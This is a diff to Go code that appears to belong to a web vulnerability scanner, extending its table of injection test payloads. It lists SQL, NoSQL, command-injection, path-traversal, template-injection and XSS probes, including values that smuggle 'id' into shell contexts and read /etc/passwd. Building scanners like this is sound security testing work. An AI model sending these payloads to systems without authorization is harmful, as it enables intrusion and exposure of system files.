@@ -11,8 +11,10 @@ var injectionFamilies = []struct {
 	urlOnly bool
 }{
 	{family: "sql", payloads: []string{`specter'"`, `' OR '1'='1' --`}},
-	{family: "nosql", payloads: []string{`{"$ne": null}`, `';return true;var x='`}},
-	{family: "command", payloads: []string{`;id;`, `$(cat /etc/passwd)`}},
+	{family: "nosql", payloads: []string{`{"$ne": null}`, `{"$gt": ""}`, `';return true;var x='`}},
+	// Output-based: the evidence oracle looks for id's "uid=…(…) gid=…"
+	// or /etc/passwd in the answer, in every shell context.
+	{family: "command", payloads: []string{`;id;`, `|id`, `$(id)`, "`id`", `$(cat /etc/passwd)`, `&& id`}},
 	{family: "traversal", payloads: []string{`../../../../../../etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fpasswd`}},
 	{family: "template", payloads: []string{`{{7*7}}specter`, `${7*7}specter`}},
 	{family: "xss", payloads: []string{`<script>alert("specter")</script>`, `"><svg onload=alert("specter")>`}},
